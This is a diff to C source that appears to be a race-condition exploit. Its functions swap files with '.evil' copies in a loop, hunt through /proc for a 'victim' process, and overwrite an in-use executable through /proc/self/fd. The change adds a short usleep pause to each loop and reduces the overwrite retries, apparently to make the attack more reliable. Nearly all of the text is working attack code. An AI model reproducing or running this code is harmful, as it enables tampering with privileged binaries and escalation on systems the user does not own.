@@ -26,6 +26,9 @@ static int broken(const char *what) {
   return 99;
 }
 
+/* A breath between two attempts, as the victim may need this CPU: 50 microseconds or a little more. */
+static void breathe(void) { usleep(1); }
+
 /* flip DIRECTORY: exchanges every NAME in it with NAME.evil, over and over. */
 static int flip(const char *directory) {
   static char names[128][NAME_MAX + 1];
@@ -47,7 +50,7 @@ static int flip(const char *directory) {
   }
   puts("flipping");
   fflush(stdout);
-  for (;;)
+  for (;; breathe())
     for (int i = 0; i < count; i++) {
       char evil[NAME_MAX + 6];
       snprintf(evil, sizeof evil, "%.255s.evil", names[i]);
@@ -125,7 +128,7 @@ static int is_own(const struct stat *st) {
 static void overwrite(int program, const char *name) {
   char path[64];
   snprintf(path, sizeof path, "/proc/self/fd/%d", program);
-  for (int tries = 0; tries < 20000; tries++) {
+  for (int tries = 0; tries < 1000; tries++, breathe()) {
     int fd = open(path, O_WRONLY | O_CLOEXEC);
     if (fd < 0 && errno == ETXTBSY)
       continue;
@@ -148,7 +151,7 @@ static void overwrite(int program, const char *name) {
 static int hunt(const char *path) {
   puts("hunting");
   fflush(stdout);
-  for (;;) {
+  for (;; breathe()) {
     DIR *proc = opendir("/proc");
     if (!proc)
       return broken("/proc");
